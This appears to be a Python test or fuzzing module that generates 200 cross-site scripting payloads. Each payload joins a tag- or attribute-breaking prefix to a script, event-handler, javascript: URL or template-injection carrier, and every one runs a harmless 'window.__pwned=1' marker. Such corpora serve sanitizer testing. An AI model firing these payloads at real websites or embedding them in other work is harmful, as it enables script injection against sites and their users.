"""Two hundred texts that want to be more than text."""

from itertools import product

DEED = "window.__pwned=1"
CARRIERS = (
    "<script>{}</script>", "<img src=x onerror={}>", "<svg onload={}>", "<svg><script>{}</script></svg>",
    "<body onload={}>", "<iframe srcdoc='<script>parent.{}</script>'>", "<a href=javascript:{}>klik</a>",
    "<details open ontoggle={}>", "<input autofocus onfocus={}>", "<video><source onerror={}>",
    "<math><mi xlink:href='javascript:{}'>", "<style>@import'x'</style>{}", "<object data='javascript:{}'>",
    "<form action='javascript:{}'><button>", "<base href='//elders.example/'>{}",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<div hx-on:load='{}' hx-get='/' hx-trigger='load'>", "{{{{{}}}}}", "${{{}}}", "[x](javascript:{})",
)  # fmt: skip
BREAKERS = (
    "", "\"'>", "</title>", "</textarea>", "</script>", "-->", "' onmouseover='", "\" onfocus=\"", "]]>", "\\u003c",
)  # fmt: skip
PAYLOADS = [breaker + carrier.format(DEED) for breaker, carrier in product(BREAKERS, CARRIERS)]
